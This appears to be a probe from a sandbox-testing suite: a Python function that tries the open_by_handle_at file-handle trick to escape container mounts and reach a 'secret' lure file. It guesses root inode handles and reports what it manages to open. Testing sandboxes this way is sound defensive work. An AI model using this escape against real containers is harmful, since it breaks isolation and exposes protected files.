"""Opens files by their number instead of by their path, which walks past every mount (a known way out of containers).

Aims at: no capability to do so (jail, confined as a user, docker), seccomp (all).
Must not: get a descriptor for the secret or for the root folder of any file system.
Verdict: reply
Shown in: bare
Needs: root
"""

import ctypes
import os
import struct

_AT_FDCWD = -100


def attack(lure):
    libc, found = ctypes.CDLL(None, use_errno=True), []
    place = os.open("/", os.O_PATH)
    for name in (".", "/", "/dev/shm", "/proc/self"):
        try:
            place = os.open(name, os.O_RDONLY)
            break
        except OSError:
            pass
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    handles = [struct.pack("IiII", 8, 1, number, 0) for number in (2, 64, 128, 256)]  # roots of ext4 and others
    for flags in (0, 0x200):  # AT_HANDLE_FID asks for less
        if libc.name_to_handle_at(_AT_FDCWD, lure["secret_file"].encode(), handle, ctypes.byref(mount), flags) == 0:
            handles.append(handle.raw)
            found.append("got the number of a file outside")
    for raw in handles:
        file = libc.open_by_handle_at(place, ctypes.create_string_buffer(raw), os.O_RDONLY)
        if file >= 0:
            found.append("opened a file by its number")
            os.close(file)
    os.close(place)
    return found
